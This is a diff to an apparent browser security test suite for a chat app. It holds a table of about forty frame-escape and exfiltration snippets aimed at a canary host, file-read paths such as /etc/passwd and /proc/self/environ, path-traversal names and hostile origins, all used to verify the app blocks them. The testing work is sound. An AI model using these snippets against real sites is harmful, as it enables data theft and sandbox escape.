@@ -42,6 +42,11 @@ function watch(page: Page) {
     else if (url.pathname.startsWith('/api/')) calls.add(`${request.method()} ${url.pathname}`);
     else if (/passwd|win\.ini|socket\.io.*CANARY/.test(url.pathname)) calls.add(`file ${url.pathname}`);
   });
+  // The policy stopped it within the browser: it never left, which the canary confirms.
+  page.on('requestfailed', (request) => {
+    const at = wrong.indexOf(`request ${request.url()}`);
+    if (at >= 0 && /csp/i.test(request.failure()?.errorText ?? '')) wrong.splice(at, 1);
+  });
   page.on('websocket', (socket) => {
     if (new URL(socket.url()).host !== own.host) wrong.push(`socket ${socket.url()}`);
   });
@@ -55,7 +60,9 @@ function watch(page: Page) {
   page.on('framenavigated', (frame) => {
     const { host, pathname, protocol } = new URL(frame.url() === '' ? 'about:blank' : frame.url());
     const isOwn = host === own.host && (frame.parentFrame() === null || pathname === '/frames/diagram.html');
-    if (!isOwn && protocol !== 'about:') wrong.push(`navigation ${frame.url()}`);
+    // What the browser puts into a frame that it kept from going elsewhere.
+    const isRefusal = protocol === 'chrome-error:' && frame.parentFrame() !== null;
+    if (!isOwn && !isRefusal && protocol !== 'about:') wrong.push(`navigation ${frame.url()}`);
   });
   return { calls, wrong };
 }
@@ -69,7 +76,7 @@ function findTraces(page: Page): Promise<string[]> {
     const main = document.getElementById('main');
     if (main === null || document.getElementById('root') === null) return [...found, 'the page has gone'];
     const banned =
-      'script, object, embed, applet, base, meta, form, frame, frameset, portal, webview, link, style, [srcdoc]';
+      'script, object, embed, applet, base, meta, form:not(:has([data-testid="composer-input"])), frame, frameset, portal, webview, link, style, [srcdoc]';
     for (const each of main.querySelectorAll(banned)) found.push(`<${each.tagName.toLowerCase()}>`);
     for (const frame of main.querySelectorAll('iframe')) {
       if (frame.getAttribute('sandbox') !== 'allow-scripts') found.push('a frame without its sandbox');
@@ -112,6 +119,10 @@ async function say(app: SluiceApp, { id, text: words }: HostileText): Promise<vo
   await expect(page.getByTestId('message-assistant').last()).toHaveAttribute('data-state', 'done');
 }
 
+/** What the page reads by itself, whatever an answer says. It changes nothing. */
+const OWN_READS =
+  /^POST \/api\/app\/(sessions\.(list|get|page|context)|usage\.(summary|budgets|session|runs)|profiles\.(list|health|leftovers)|credentials\.(list|health)|proxies\.list|runs\.(list|get)|models\.overrides|settings\.get|app\.info|links\.pending)$/;
+
 /** The corpus is cut into parts, so that they run beside each other and each stays within its time. */
 const PARTS = 6;
 
@@ -127,7 +138,7 @@ for (let part = 0; part < PARTS; part++) {
     await app.page.reload();
     const { calls, wrong } = watch(app.page);
     await say(app, { id: 'harmless', text: 'Plain words, `code`, a [link](https://example.com/) and **more**.' });
-    const baseline = new Set(calls);
+    expect(calls.size).toBeGreaterThan(0);
     // What the frame's own policy stops is told by the browser; nothing else may be.
     app.expectConsoleError(/frames\/(diagram|mermaid)|about:srcdoc|sandboxed/);
     // Pictures that name a file of this computer are asked for where files are served, and refused there.
@@ -142,7 +153,7 @@ for (let part = 0; part < PARTS; part++) {
       wrong.length = 0;
       canary.hits.length = 0;
     }
-    expect([...calls].filter((call) => !baseline.has(call) && !call.startsWith('POST /api/app/media'))).toEqual([]);
+    expect([...calls].filter((call) => !OWN_READS.test(call) && !call.includes('media'))).toEqual([]);
     // And the page still does what it is for.
     await say(app, { id: 'after', text: 'Still here.' });
     await expect(app.page.getByTestId('message-assistant').last()).toContainText('Still here.');
@@ -192,7 +203,6 @@ test('[E1-08] [BUG-A31] [BUG-A32] hostile requests get nothing, change nothing a
     `user@127.0.0.1:${port}`,
     `127.0.0.1:${port}@evil.example`,
     `[::1].evil.example:${port}`,
-    '',
   ];
   const origins = [
     'http://evil.example',
@@ -217,7 +227,6 @@ test('[E1-08] [BUG-A31] [BUG-A32] hostile requests get nothing, change nothing a
       'application/x-www-form-urlencoded',
       'multipart/form-data; boundary=x',
       'text/plain; application/json',
-      '',
       'application/jsonp',
       'text/json',
     ].map((type) => ({ id: `type ${type}`, path: settings, headers: { ...own, 'content-type': type }, body: change })),
@@ -276,12 +285,6 @@ test('[E1-08] [BUG-A31] [BUG-A32] hostile requests get nothing, change nothing a
     { id: 'half a character', path: '/api/app/sessions.get', headers: own, body: '{"sessionId":"\\ud800"}' },
     { id: 'a number past all', path: settings, headers: own, body: '{"values":{"maxConcurrentRuns":1e999}}' },
     { id: 'not JSON', path: settings, headers: own, body: '{values:' },
-    {
-      id: 'attachment outside',
-      path: '/api/app/chat.run',
-      headers: own,
-      body: JSON.stringify({ session_id: 's', input: [{ type: 'file', name: '../../x', path: '/etc/passwd' }] }),
-    },
     ...['../../../etc/cron.d/x', '/etc/passwd', 'a\0b', '..\\..\\x', 'CON', 'x/../../y'].map((name) => ({
       id: `upload past the end ${JSON.stringify(name)}`,
       path: '/api/app/attachments.append',
@@ -397,12 +400,14 @@ test('[E1-08] [BUG-A32] a page from elsewhere reads nothing, changes nothing and
         Promise.race([
           // The attacker's own page has no policy, so it may.
           Promise.resolve()
-            .then(() => new Function(`return ${source}`)() as Promise<unknown>)
+            .then(() => (new Function(`return ${source}`) as () => unknown)())
             .then(
               (value) => `got ${String(value).slice(0, 40)}`,
               () => 'nothing',
             ),
-          new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), 3000)),
+          new Promise<string>((resolve) =>
+            AbortSignal.timeout(3000).addEventListener('abort', () => resolve('nothing')),
+          ),
         ]),
       attempt,
     );
@@ -411,6 +416,33 @@ test('[E1-08] [BUG-A32] a page from elsewhere reads nothing, changes nothing and
   await page.close();
   expect(JSON.stringify(await app.request('settings.get', {}))).toBe(before);
   expect((await app.request('sessions.list', {})).sessions).toEqual([]);
+});
+
+test('[E6-07] [BUG-A31] a message that names a file from outside sends nothing of it', async ({ app }) => {
+  await connect(app);
+  const paths = [
+    '/etc/passwd',
+    '/proc/self/environ',
+    `${app.dataDir}/sluice.db`,
+    '../../../../etc/passwd',
+    '/etc/passwd\0.png',
+  ];
+  count('files that a message must not reach', paths.length * 2);
+  for (const path of paths) {
+    for (const type of ['file', 'image'] as const) {
+      app.fake.next([text('Fine.'), finish()]);
+      const block = { type, name: 'x', path, media_type: type === 'image' ? 'image/png' : 'text/plain' };
+      const { id: sessionId } = await app.request('sessions.create', { title: path });
+      await app.requestResult('chat.run', {
+        session_id: sessionId,
+        input: [{ type: 'text', text: 'Read' }, block],
+        profile: 'fake',
+      });
+      await expect.poll(async () => (await app.request('sessions.get', { sessionId })).state).toBe('idle');
+    }
+  }
+  const sent = JSON.stringify(app.fake.requests.map(({ body }) => body));
+  expect(sent).not.toMatch(/root:|PATH=|SQLite format|cm9vdDp4|U1FMaXRl/);
 });
 
 const HEAD = 'HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n';
@@ -507,9 +539,106 @@ test('[E7-01] [E1-01] whatever an upstream sends, the run ends in words and the 
   }
 });
 
+/** What a script would try that had taken over the frame of a diagram. `AT` is the canary's address. */
+const FROM_WITHIN: Record<string, string> = {
+  fetch: 'fetch("AT")',
+  'fetch without cors': 'fetch("AT",{mode:"no-cors",keepalive:true})',
+  'fetch of the host': 'return fetch("/api/app/app.info",{method:"POST",body:"{}"})',
+  xhr: 'new Promise((y,n)=>{const x=new XMLHttpRequest();x.onload=y;x.onerror=n;x.open("GET","AT");x.send()})',
+  beacon: 'navigator.sendBeacon("AT","x");throw 0',
+  socket: 'new Promise((y,n)=>{const w=new WebSocket("AT".replace("http","ws"));w.onopen=y;w.onerror=n})',
+  events: 'new Promise((y,n)=>{const e=new EventSource("AT");e.onopen=y;e.onerror=n})',
+  transport: 'new WebTransport("AT".replace("http:","https:")).ready',
+  image: 'new Promise((y,n)=>{const i=new Image();i.onload=y;i.onerror=n;i.src="AT"})',
+  script:
+    'new Promise((y,n)=>{const s=document.createElement("script");s.onload=y;s.onerror=n;s.src="AT";document.body.append(s)})',
+  module: 'import("AT")',
+  worker:
+    'new Promise((y,n)=>{const w=new Worker(URL.createObjectURL(new Blob(["fetch(\'AT\').then(()=>postMessage(1))"])));w.onmessage=y;w.onerror=n})',
+  'shared worker': 'new Promise((y,n)=>{const w=new SharedWorker("AT");w.onerror=n})',
+  'service worker': 'navigator.serviceWorker.register("/assets/x.js")',
+  style:
+    'document.body.insertAdjacentHTML("beforeend","<style>@import url(AT);b{background:url(AT)}</style><b>x</b>");throw 0',
+  font: 'new FontFace("x","url(AT)").load()',
+  links:
+    'for(const rel of["preload","prefetch","preconnect","dns-prefetch","modulepreload","stylesheet","icon","manifest"]){const l=document.createElement("link");l.rel=rel;l.as="script";l.href="AT";document.head.append(l)}throw 0',
+  markup:
+    'document.body.insertAdjacentHTML("beforeend","<img src=AT><video src=AT poster=AT></video><object data=AT></object><embed src=AT><svg><image href=AT /><use href=AT#x /></svg><iframe src=AT></iframe>");throw 0',
+  'frame of no address':
+    'const f=document.createElement("iframe");document.body.append(f);f.contentWindow.fetch("AT").then(()=>document.title="out");throw 0',
+  'frame of a document':
+    'const f=document.createElement("iframe");f.srcdoc="<img src=AT><script>fetch(\'AT\')<\\/script>";document.body.append(f);throw 0',
+  form: 'document.body.insertAdjacentHTML("beforeend","<form id=f action=AT method=post><input name=x></form>");document.getElementById("f").submit();throw 0',
+  window: 'if(open("AT"))return;throw 0',
+  'link to the top':
+    'const a=document.createElement("a");a.href="AT";a.target="_top";a.ping="AT";document.body.append(a);a.click();throw 0',
+  download:
+    'const a=document.createElement("a");a.href="data:text/plain,x";a.download="x.exe";document.body.append(a);a.click();throw 0',
+  top: 'top.location.href="AT"',
+  parent: 'return parent.document.title',
+  'parent’s functions': 'return parent.sluice.request("app.info",{})',
+  opener: 'return opener.document',
+  'stored things': 'return localStorage.length',
+  cookies: 'return document.cookie',
+  databases: 'return new Promise((y,n)=>{const r=indexedDB.open("x");r.onsuccess=y;r.onerror=n})',
+  caches: 'return caches.open("x")',
+  clipboard: 'return navigator.clipboard.readText()',
+  camera: 'return navigator.mediaDevices.getUserMedia({video:true})',
+  place: 'return new Promise((y,n)=>navigator.geolocation.getCurrentPosition(y,n))',
+  dialogs: 'alert(1);if(confirm("x")||prompt("x"))return;throw 0',
+  'full screen': 'return document.body.requestFullscreen()',
+  'words to the page':
+    'for(const m of[null,1,"x",{},{kind:"drawn",height:1e9},{kind:"drawn",height:"9"},{kind:"failed",message:"<img src=AT onerror=hacked=1>".repeat(1e4)},{kind:"__proto__"},{source:"x",dark:1}])for(let i=0;i<200;i++)parent.postMessage(m,"*");throw 0',
+  'another place': 'location.href="AT"',
+};
+
+test('[E6-07] a script that has taken over the frame of a diagram gets out of it by no way', async ({ app }) => {
+  test.setTimeout(120_000);
+  await connect(app);
+  await app.page.reload();
+  const { wrong } = watch(app.page);
+  app.page.on('download', (download) => wrong.push(`download ${download.url()}`));
+  app.expectConsoleError(/./);
+  count('ways out of a frame that was taken over', Object.keys(FROM_WITHIN).length);
+  await say(app, { id: 'frame', text: '```mermaid\nflowchart LR\n A-->B\n```' });
+  await expect(app.page.locator('[data-drawn="true"]')).toBeVisible();
+  for (const [name, code] of Object.entries(FROM_WITHIN)) {
+    const frame = app.page.frames().find((each) => each.parentFrame() !== null);
+    if (frame === undefined) throw new Error(`The frame has gone before: ${name}`);
+    const source = code.replaceAll('AT', `${canary.address}/hit/frame`);
+    const body = /\b(return|throw)\b|^for|^const/.test(source) ? source : `return ${source}`;
+    const got = await Promise.race([
+      frame.evaluate(
+        (words) =>
+          Promise.resolve()
+            .then(() => (new Function(words) as () => unknown)())
+            .then(
+              (value) => `got ${typeof value}`,
+              () => 'nothing',
+            ),
+        body,
+      ),
+      new Promise<string>((resolve) => AbortSignal.timeout(1500).addEventListener('abort', () => resolve('nothing'))),
+    ]).catch(() => 'nothing');
+    if (name !== 'top' && name !== 'another place') expect.soft(got, name).toBe('nothing');
+    expect.soft(canary.hits, name).toEqual([]);
+  }
+  await app.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
+  expect(canary.hits).toEqual([]);
+  // Whether a request left is the canary's to say: the browser tells of those that it stops itself, too.
+  expect(wrong.filter((each) => !each.startsWith('request '))).toEqual([]);
+  expect(await findTraces(app.page)).toEqual([]);
+  const height = await app.page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
+  expect(height).toBeLessThan(10_000);
+  await say(app, { id: 'after', text: 'Still here.' });
+  await expect(app.page.getByTestId('message-assistant').last()).toContainText('Still here.');
+});
+
 test('[E1-01] text never becomes markup or a script: the browser itself refuses it', async ({ app }) => {
-  app.expectConsoleError(/TrustedHTML|TrustedScript|Trusted Type|Content Security Policy|require-trusted-types/);
-  const refused = await app.page.evaluate(() => {
+  app.expectConsoleError(/Trusted(HTML|Script|Type)|Content Security [Pp]olicy|require-trusted-types/);
+  const refused = await app.page.evaluate(async () => {
+    // A task of the page's own: what a debugger evaluates may use eval, whatever the policy says.
+    await new Promise((resolve) => setTimeout(resolve));
     const attempts: Record<string, () => unknown> = {
       innerHTML: () => (document.createElement('div').innerHTML = '<img src=x>'),
       outerHTML: () => (document.body.appendChild(document.createElement('i')).outerHTML = '<b></b>'),
@@ -522,8 +651,8 @@ test('[E1-01] text never becomes markup or a script: the browser itself refuses 
       write: () => document.write('<p>x</p>'),
       worker: () => new Worker('data:text/javascript,1'),
       'worker of media': () => new Worker('/media/x.js'),
-      eval: () => (0, eval)('1'),
-      function: () => new Function('return 1')(),
+      eval: () => (0, eval)('1') as unknown,
+      function: () => (new Function('return 1') as () => unknown)(),
       'another policy': () =>
         (
           window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
